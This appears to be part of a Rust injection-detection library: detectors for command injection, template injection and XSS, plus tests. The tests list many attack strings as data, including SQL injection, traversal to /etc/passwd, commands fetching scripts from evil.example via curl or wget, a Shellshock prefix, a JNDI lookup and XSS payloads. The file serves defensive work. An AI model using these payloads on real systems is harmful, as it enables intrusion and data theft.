        Args::Flag => alone || matches!(arg, Some(b'-' | b'/' | b'~' | b'.')),
        Args::Number => arg.is_some_and(|c| c.is_ascii_digit()),
        Args::Alone => alone,
    };
    ok.then_some(end)
}

/// A shell command chained after a separator (`;`, `|`, `&&`, a newline) or substituted
/// (`` `id` ``, `$(id)`), or a Shellshock function prefix.
pub fn os_command(v: &[u8]) -> Option<Hit> {
    let head = skip_ws(v, 0);
    if starts_with_ci(v, head, b"() {") {
        return Some(Hit::new(
            InjectionClass::OsCommand,
            "cmd_shellshock",
            head,
            head + 4,
        ));
    }
    for (i, &c) in v.iter().enumerate() {
        let (rule, body) = match c {
            b';' | b'\n' => ("cmd_chained_command", i + 1),
            b'|' => (
                "cmd_chained_command",
                i + 1 + usize::from(v.get(i + 1) == Some(&b'|')),
            ),
            b'&' if v.get(i + 1) == Some(&b'&') => ("cmd_chained_command", i + 2),
            // A lone `&` is prose ("rock & roll"): only telling commands count after it.
            b'&' if i == 0 || v.get(i - 1) != Some(&b'&') => {
                let at = skip_ws(v, i + 1);
                if let Some(end) = command_at(v, at) {
                    let strong = COMMANDS
                        .iter()
                        .take(12)
                        .any(|(n, _)| starts_with_ci(v, at, n.as_bytes()) && at + n.len() == end);
                    if strong {
                        return Some(Hit::new(
                            InjectionClass::OsCommand,
                            "cmd_background_command",
                            i,
                            end,
                        ));
                    }
                }
                continue;
            }
            b'`' => ("cmd_substitution", i + 1),
            b'$' if v.get(i + 1) == Some(&b'(') => ("cmd_substitution", i + 2),
            _ => continue,
        };
        let at = skip_ws(v, body);
        if let Some(end) = command_at(v, at) {
            return Some(Hit::new(InjectionClass::OsCommand, rule, i, end));
        }
    }
    None
}

// ---------------------------------------------------------------------------------------------
// Templates
// ---------------------------------------------------------------------------------------------

/// Words inside a template expression that reach objects no user text names.
const SSTI_WORDS: [&str; 16] = [
    "__",
    "config",
    "self.",
    "request.",
    "lipsum",
    "cycler",
    "joiner",
    "getclass",
    "runtime",
    "t(java",
    "exec(",
    "popen",
    "import",
    "system(",
    "freemarker",
    "constructor",
];

/// Expression lookups of Log4j-style interpolation: `${jndi:`, `${env:`...
const LOOKUPS: [&str; 6] = ["jndi:", "env:", "sys:", "lower:", "upper:", "java:"];

/// A template expression in a value: a delimited expression (`{{ }}`, `${ }`, `#{ }`,
/// `<%= %>`) holding arithmetic, an object-graph walk or a lookup. `{{name}}` and `${price}`
/// are placeholders, not attacks.
pub fn ssti(v: &[u8]) -> Option<Hit> {
    const OPENERS: [(&[u8], &[u8]); 5] = [
        (b"{{", b"}}"),
        (b"${", b"}"),
        (b"#{", b"}"),
        (b"*{", b"}"),
        (b"<%", b"%>"),
    ];
    for (open, close) in OPENERS {
        let mut from = 0;
        while let Some(p) = memchr::memmem::find(v.get(from..).unwrap_or(&[]), open) {
            let start = from + p;
            let body_start = start + open.len();
            let window = v.get(body_start..).unwrap_or(&[]);
            let window = &window[..window.len().min(256)];
            let body_len = memchr::memmem::find(window, close).unwrap_or(window.len());
            let body = &window[..body_len];
            // `<%= expr %>` prints, `<%- expr %>` prints unescaped: the marker is not the
            // expression.
            let body = match (open, body.first()) {
                (b"<%", Some(b'=' | b'-')) => &body[1..],
                _ => body,
            };
            let end = body_start + body_len + close.len().min(window.len() - body_len);
            if open == b"${"
                && LOOKUPS
                    .iter()
                    .any(|l| starts_with_ci(body, 0, l.as_bytes()))
            {
                return Some(Hit::new(
                    InjectionClass::Ssti,
                    "lookup_injection",
                    start,
                    end,
                ));
            }
            if is_arithmetic(body) {
                return Some(Hit::new(
                    InjectionClass::Ssti,
                    "ssti_arithmetic",
                    start,
                    end,
                ));
            }
            if SSTI_WORDS
                .iter()
                .any(|w| find_ci(body, w.as_bytes(), 0).is_some())
            {
                return Some(Hit::new(
                    InjectionClass::Ssti,
                    "ssti_object_walk",
                    start,
                    end,
                ));
            }
            from = body_start;
        }
    }
    None
}

/// `7*7`, `7 * '7'`, `191+1`: number, operator, number, and nothing else.
fn is_arithmetic(body: &[u8]) -> bool {
    let b = body.trim_ascii();
    let strip = |s: &[u8]| -> usize {
        let mut i = 0;
        if matches!(s.first(), Some(b'\'' | b'"')) {
            i = 1;
        }
        let d = s
            .get(i..)
            .unwrap_or(&[])
            .iter()
            .take_while(|c| c.is_ascii_digit())
            .count();
        if d == 0 {
            return 0;
        }
        let mut j = i + d;
        if i == 1 && matches!(s.get(j), Some(b'\'' | b'"')) {
            j += 1;
        }
        j
    };
    let a = strip(b);
    if a == 0 {
        return false;
    }
    let rest = b.get(a..).unwrap_or(&[]).trim_ascii_start();
    let Some(&op) = rest.first() else {
        return false;
    };
    if !matches!(op, b'*' | b'+' | b'-' | b'/' | b'%') {
        return false;
    }
    let rest = rest.get(1..).unwrap_or(&[]).trim_ascii_start();
    let c = strip(rest);
    c > 0 && c == rest.len()
}

// ---------------------------------------------------------------------------------------------
// Script
// ---------------------------------------------------------------------------------------------

/// Tags whose attributes run script or that load active content.
const ACTIVE_TAGS: [&str; 5] = ["script", "iframe", "object", "embed", "applet"];
/// Tags commonly abused with an event handler.
const EVENT_HANDLERS: [&str; 20] = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onmouseenter",
    "onmouseout",
    "onfocus",
    "onblur",
    "onanimationstart",
    "ontoggle",
    "onpointerover",
    "onbegin",
    "onkeydown",
    "onkeyup",
    "onchange",
    "oninput",
    "onsubmit",
    "onwheel",
    "onstart",
    "onauxclick",
];

fn event_handler_at(v: &[u8], at: usize) -> Option<usize> {
    for h in EVENT_HANDLERS {
        if starts_with_ci(v, at, h.as_bytes()) {
            let eq = skip_ws(v, at + h.len());
            if v.get(eq) == Some(&b'=') {
                return Some(eq + 1);
            }
        }
    }
    None
}

/// Script injection: an active tag, an event handler inside a tag or after a quote that
/// closes an attribute, a `javascript:`/`vbscript:`/`data:text/html` URI that runs code.
pub fn xss(v: &[u8]) -> Option<Hit> {
    for lt in memchr::memchr_iter(b'<', v) {
        let name_at = lt + 1 + usize::from(v.get(lt + 1) == Some(&b'/'));
        let name_len = v
            .get(name_at..)
            .unwrap_or(&[])
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric())
            .count();
        if name_len == 0 {
            continue;
        }
        let name = v.get(name_at..name_at + name_len).unwrap_or(&[]);
        let name_end = name_at + name_len;
        if ACTIVE_TAGS
            .iter()
            .any(|t| name.eq_ignore_ascii_case(t.as_bytes()))
            && v.get(name_end)
                .is_none_or(|c| c.is_ascii_whitespace() || matches!(c, b'>' | b'/'))
        {
            return Some(Hit::new(
                InjectionClass::Xss,
                "xss_active_tag",
                lt,
                name_end,
            ));
        }
        // Attributes of this tag, up to its `>`.
        let tag_end = memchr::memchr(b'>', v.get(name_end..).unwrap_or(&[]))
            .map_or(v.len(), |p| name_end + p);
        let mut j = name_end;
        while j < tag_end {
            let c = v.get(j).copied().unwrap_or(0);
            if (c.is_ascii_whitespace() || c == b'/' || c == b'"' || c == b'\'')
                && v.get(j + 1).is_some_and(|c| lower(*c) == b'o')
            {
                if let Some(end) = event_handler_at(v, j + 1) {
                    return Some(Hit::new(InjectionClass::Xss, "xss_event_handler", lt, end));
                }
            }
            j += 1;
        }
    }
    // An attribute value closed by a quote, then a handler: `" onmouseover="alert(1)`.
    for q in memchr::memchr2_iter(b'"', b'\'', v) {
        let at = skip_ws(v, q + 1);
        if at > q + 1 || v.get(at) == Some(&b'/') {
            let at = at + usize::from(v.get(at) == Some(&b'/'));
            if let Some(end) = event_handler_at(v, at) {
                return Some(Hit::new(InjectionClass::Xss, "xss_attribute_break", q, end));
            }
        }
    }
    for scheme in [&b"javascript"[..], b"vbscript"] {
        let mut from = 0;
        while let Some(p) = find_ci(v, scheme, from) {
            from = p + 1;
            let colon = skip_ws(v, p + scheme.len());
            if v.get(colon) != Some(&b':') {
                continue;
            }
            // "javascript: the good parts" is a book; `javascript:alert(1)` is code.
            let code = v.get(colon + 1..).unwrap_or(&[]);
            let code = &code[..code.len().min(128)];
            let starts_code = code.first().is_some_and(|c| !c.is_ascii_whitespace());
            let looks_code = code
                .iter()
                .any(|c| matches!(c, b'(' | b'`' | b'=' | b'%' | b'/'));
            if starts_code && looks_code {
                return Some(Hit::new(
                    InjectionClass::Xss,
                    "xss_script_uri",
                    p,
                    colon + 1 + code.len().min(24),
                ));
            }
        }
    }
    if let Some(p) = find_ci(v, b"data:text/html", 0) {
        return Some(Hit::new(InjectionClass::Xss, "xss_data_uri", p, p + 14));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use aho_corasick::{AhoCorasickBuilder, MatchKind};
    use proptest::strategy::Strategy;

    /// Scans `input` as a decoded value; compares (class, rule) with `want`.
    fn check(input: &str, want: Option<(InjectionClass, &str)>) {
        let got = scan(input.as_bytes(), false).map(|h| (h.class, h.rule));
        assert_eq!(got, want, "input {input:?}");
    }

    use InjectionClass::*;

    /// The prefilter as first written, an automaton over [`TRIGGERS`]: the oracle.
    fn could_be_attack_oracle(v: &[u8]) -> bool {
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostFirst)
            .build(TRIGGERS)
            .unwrap()
            .is_match(v)
    }

    #[test]
    fn the_prefilter_passes_every_trigger_in_any_case_and_place() {
        for t in TRIGGERS {
            for v in [
                t.to_owned(),
                t.to_ascii_uppercase(),
                format!("abc {t}"),
                format!("{t}xyz"),
                format!("Mozilla{}Firefox", t.to_ascii_uppercase()),
            ] {
                assert!(could_be_attack(v.as_bytes()), "{v:?}");
                assert!(could_be_attack_oracle(v.as_bytes()), "{v:?}");
            }
        }
        for v in [
            "",
            "89.160.20.120",
            "BankApp/7.2.4 (Android 14) Pixel 8",
            "orders by date",
            "data:text/htm",
            "/etc",
            "scrip:",
            "sleeP",
        ] {
            let want = v.eq_ignore_ascii_case("sleeP");
            assert_eq!(could_be_attack(v.as_bytes()), want, "{v:?}");
            assert_eq!(could_be_attack_oracle(v.as_bytes()), want, "{v:?}");
        }
    }

    #[test]
    fn sql_injection_shapes_are_recognised() {
        let cases: &[(&str, &str)] = &[
            ("' or '1'='1", "sqli_tautology"),
            ("admin' OR 1=1--", "sqli_tautology"),
            ("x') or ('a'='a", "sqli_tautology"),
            ("' or true--", "sqli_tautology"),
            ("admin'--", "sqli_quote_comment"),
            ("admin' #", "sqli_quote_comment"),
            ("O'Brien' OR '1'='1", "sqli_tautology"),
            ("1 OR 1=1", "sqli_tautology"),
            ("1) or (1=1", "sqli_tautology"),
            (
                "-1 UNION SELECT username, password FROM users",
                "sqli_union_select",
            ),
            ("1 union all select null,null--", "sqli_union_select"),
            ("1/**/UNION/**/SELECT/**/1,2", "sqli_union_select"),
            ("' UNION SELECT 1,@@version--", "sqli_union_select"),
            ("1; DROP TABLE users", "sqli_stacked_query"),
            ("'; drop table accounts--", "sqli_stacked_query"),
            ("1; select * from users", "sqli_stacked_query"),
            ("1 AND SLEEP(5)", "sqli_time_delay"),
            ("' and sleep(5)#", "sqli_time_delay"),
            ("1; WAITFOR DELAY '0:0:5'--", "sqli_quote_comment"),
            ("1; WAITFOR DELAY 5", "sqli_stacked_query"),
            ("'; waitfor delay '0:0:5'--", "sqli_stacked_query"),
            (
                "1' and extractvalue(1,concat(0x7e,version()))--",
                "sqli_error_function",
            ),
            ("' order by 3--", "sqli_order_by_probe"),
            ("1 order by 10", "sqli_order_by_probe"),
            ("abc' and (select count(*) from users)>0--", "sqli_subquery"),
            ("\" or \"\"=\"", "sqli_tautology"),
            ("'='", "sqli_tautology"),
            (
                "x' AND 1=(SELECT 1 FROM information_schema.tables)--",
                "sqli_tautology",
            ),
        ];
        for (input, rule) in cases {
            check(input, Some((Sqli, rule)));
        }
    }

    #[test]
    fn other_injection_classes_are_recognised() {
        let cases: &[(&str, InjectionClass, &str)] = &[
            (
                "../../../../etc/passwd",
                PathTraversal,
                "traversal_to_system_file",
            ),
            (
                "..\\..\\windows\\win.ini",
                PathTraversal,
                "traversal_to_system_file",
            ),
            ("images/../../../secret", PathTraversal, "traversal_dot_dot"),
            ("/etc/passwd", PathTraversal, "absolute_system_path"),
            ("report.pdf\0.png", PathTraversal, "null_byte"),
            (
                "127.0.0.1; cat /etc/passwd",
                OsCommand,
                "cmd_chained_command",
            ),
            ("x | whoami", OsCommand, "cmd_chained_command"),
            (
                "a && curl http://evil.example/x.sh",
                OsCommand,
                "cmd_chained_command",
            ),
            ("`id`", OsCommand, "cmd_substitution"),
            ("$(whoami)", OsCommand, "cmd_substitution"),
            ("x;/bin/sh -c id", OsCommand, "cmd_chained_command"),
            ("foo & wget http://x", OsCommand, "cmd_background_command"),
            ("() { :; }; /bin/bash -c 'id'", OsCommand, "cmd_shellshock"),
            ("8.8.8.8\nid", OsCommand, "cmd_chained_command"),
            ("{{7*7}}", Ssti, "ssti_arithmetic"),
            ("${7*7}", Ssti, "ssti_arithmetic"),
            ("<%= 7 * 7 %>", Ssti, "ssti_arithmetic"),
            ("#{7*7}", Ssti, "ssti_arithmetic"),
            ("{{config.items()}}", Ssti, "ssti_object_walk"),
            ("{{''.__class__.__mro__}}", Ssti, "ssti_object_walk"),
            ("${jndi:ldap://evil.example/a}", Ssti, "lookup_injection"),
            ("<script>alert(1)</script>", Xss, "xss_active_tag"),
            ("<ScRiPt src=//x.example/a.js>", Xss, "xss_active_tag"),
            ("<img src=x onerror=alert(1)>", Xss, "xss_event_handler"),
            ("<svg/onload=alert(1)>", Xss, "xss_event_handler"),
            ("\" onmouseover=\"alert(1)", Xss, "xss_attribute_break"),
            ("javascript:alert(document.cookie)", Xss, "xss_script_uri"),
            (
                "<iframe src=\"https://evil.example\">",
                Xss,
                "xss_active_tag",
            ),
            ("data:text/html;base64,PHNjcmlwdD4=", Xss, "xss_data_uri"),
        ];
        for (input, class, rule) in cases {
            check(input, Some((*class, rule)));
        }
    }

    #[test]
    fn benign_look_alikes_stay_quiet() {
        let cases = [
            "O'Brien",
            "Dunkin' Donuts",
            "rock & roll",
            "Tom & Jerry; cats and dogs",
            "50% off",
            "c++ books",
            "select a plan",
            "Please select a plan from the list",
            "trade union select committee",
            "rock 'n' roll",
            "it's 'yes' or 'no'",
            "Dunkin' order by phone",
            "jane.doe+news@example.com",
            "https://example.com/a/b?x=1&y=2",
            "$5",
            "$5.00 - $10.00",
            "Hello {{name}}, your order ${orderId} shipped",
            "javascript: the good parts",
            "2 < 3 and 5 > 4",
            "1 or 2 items",
            "I'll sleep 8 hours; id card pending",
            "Café Müller, Zürich",
            "José's \"special\" offer",
            "a=b",
            "../img/logo.png",
            "Q&A; FAQ",
            "Rock'n'roll; cat lovers welcome",
            "Terms & conditions | privacy",
            "Meeting at 10:00; bring ID",
            "<p>Hello <b>world</b></p>",
            "<a href=\"https://example.com\">online</a>",
            "x = 5; y = 6",
            "version 1.2.3 -- beta",
            "user_id=42 AND status=active",
            "1 or 2",
            "1 or 2; 3 or 4",
            "He said 'sleep tight' and left",
            "query($id: ID!){account(id:$id){balance owner{name}}}",
            "{ accounts(first: 10) { edges { node { id } } } }",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ];
        for input in cases {
            check(input, None);
        }
    }

    #[test]
    fn decoding_undoes_double_encoding_and_overlong_dots() {
        let mut out = Vec::new();
        let mut tmp = Vec::new();
        let rounds = decode_into(
            b"%252e%252e%252fetc%252fpasswd",
            true,
            2,
            &mut out,
            &mut tmp,
        );
        assert_eq!((out.as_slice(), rounds), (&b"../etc/passwd"[..], 2));
        decode_into(b"%c0%ae%c0%ae/%c0%ae%c0%ae/x", true, 2, &mut out, &mut tmp);
        assert_eq!(out, b"../../x");
        decode_into(b"c%2B%2B+books", true, 2, &mut out, &mut tmp);
        assert_eq!(out, b"c++ books");
        decode_into(b"50%25+off", true, 2, &mut out, &mut tmp);
        assert_eq!(out, b"50% off");
        decode_into(b"a+b", false, 2, &mut out, &mut tmp);
        assert_eq!(out, b"a+b");
        assert!(encodes_traversal(b"..%2f..%2fetc"));
        assert!(encodes_traversal(b"%2e%2e/x"));
        assert!(!encodes_traversal(b"50%25%20off"));
        // One encoded climb is enough; one plain climb is not.
        assert_eq!(
            traversal(b"../secret.txt", true).map(|h| h.rule),
            Some("traversal_encoded_dot_dot")
        );
        assert_eq!(traversal(b"../secret.txt", false), None);
    }

    #[test]
    fn nosql_operators_in_keys_and_bracketed_names() {
        assert!(is_nosql_operator("$ne"));
        assert!(is_nosql_operator("$where"));
        assert!(!is_nosql_operator("$5"));
        assert!(!is_nosql_operator("$ref"));
        assert!(!is_nosql_operator("ne"));
        assert_eq!(nosql_param_operator(b"username[$ne]"), Some((9, 12)));
        assert_eq!(nosql_param_operator(b"items[0]"), None);
        assert_eq!(nosql_param_operator(b"price[$5]"), None);
    }

    #[test]
    fn hits_point_into_the_value() {
        let v = b"name=x' or '1'='1";
        let h = scan(v, false).unwrap();
        assert_eq!(&v[h.start..h.end], b"' or '1'='1");
    }

    /// `find_ci` as first written, a comparison at every position: the oracle.
    fn find_ci_oracle(hay: &[u8], needle: &[u8], from: usize) -> Option<usize> {
        if needle.is_empty() {
            return Some(from);
        }
        hay.get(from..)?
            .windows(needle.len())
            .position(|w| w.eq_ignore_ascii_case(needle))
            .map(|p| p + from)
    }

    #[test]
    fn find_ci_finds_the_first_match_in_either_case() {
        let cases: &[(&str, &str, usize, Option<usize>)] = &[
            ("x UNION Select", "select", 0, Some(8)),
            ("JavaScript:javascript:", "javascript", 1, Some(11)),
            ("@@VERSION", "@@version", 0, Some(0)),
            ("waitfo", "waitfor", 0, None),
            ("abc", "", 2, Some(2)),
            ("abc", "c", 3, None),
            ("abc", "c", 9, None),
            ("", "a", 0, None),
            ("LOAD_FILE(", "load_file(", 0, Some(0)),
        ];
        for &(hay, needle, from, want) in cases {
            let got = find_ci(hay.as_bytes(), needle.as_bytes(), from);
            assert_eq!(got, want, "{hay:?} {needle:?} from {from}");
            assert_eq!(got, find_ci_oracle(hay.as_bytes(), needle.as_bytes(), from));
        }
    }

    proptest::proptest! {
        #[test]
        fn find_ci_agrees_with_its_oracle(
            hay in proptest::collection::vec(proptest::sample::select(b"aAsSeElLcCtTdDfFiIoOvVrRnN_@(:/ .\xc0".to_vec()), 0..64),
            needle in proptest::sample::select(vec![&b"select"[..], b"@@version", b"load_file(", b"s", b"", b"_", b"a:/"]),
            from in 0usize..70,
        ) {
            proptest::prop_assert_eq!(find_ci(&hay, needle, from), find_ci_oracle(&hay, needle, from));
        }

        #[test]
        fn the_prefilter_agrees_with_its_automaton(
            parts in proptest::collection::vec(
                proptest::prop_oneof![
                    proptest::sample::select(TRIGGERS.to_vec()).prop_map(|t| {
                        // A trigger cut short or in upper case, or whole.
                        let b = t.as_bytes();
                        vec![b[..b.len().saturating_sub(1)].to_vec(), t.to_ascii_uppercase().into_bytes(), b.to_vec()]
                    }),
                    proptest::collection::vec(proptest::prelude::any::<u8>(), 0..4).prop_map(|b| vec![b]),
                ],
                0..12,
            ),
            pick in proptest::collection::vec(0usize..3, 12),
        ) {
            let v: Vec<u8> = parts
                .iter()
                .zip(&pick)
                .flat_map(|(alts, &k)| alts.get(k).or(alts.first()).cloned().unwrap_or_default())
                .collect();
            proptest::prop_assert_eq!(could_be_attack(&v), could_be_attack_oracle(&v), "{:?}", String::from_utf8_lossy(&v));
        }

        #[test]
        fn never_panics_and_hits_stay_in_bounds(v in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..200)) {
            if let Some(h) = scan(&v, true) {
                proptest::prop_assert!(h.start <= h.end && h.end <= v.len());
            }
            let mut out = Vec::new();
            let mut tmp = Vec::new();
            decode_into(&v, true, 3, &mut out, &mut tmp);
            proptest::prop_assert!(out.len() <= v.len());
        }
    }
}
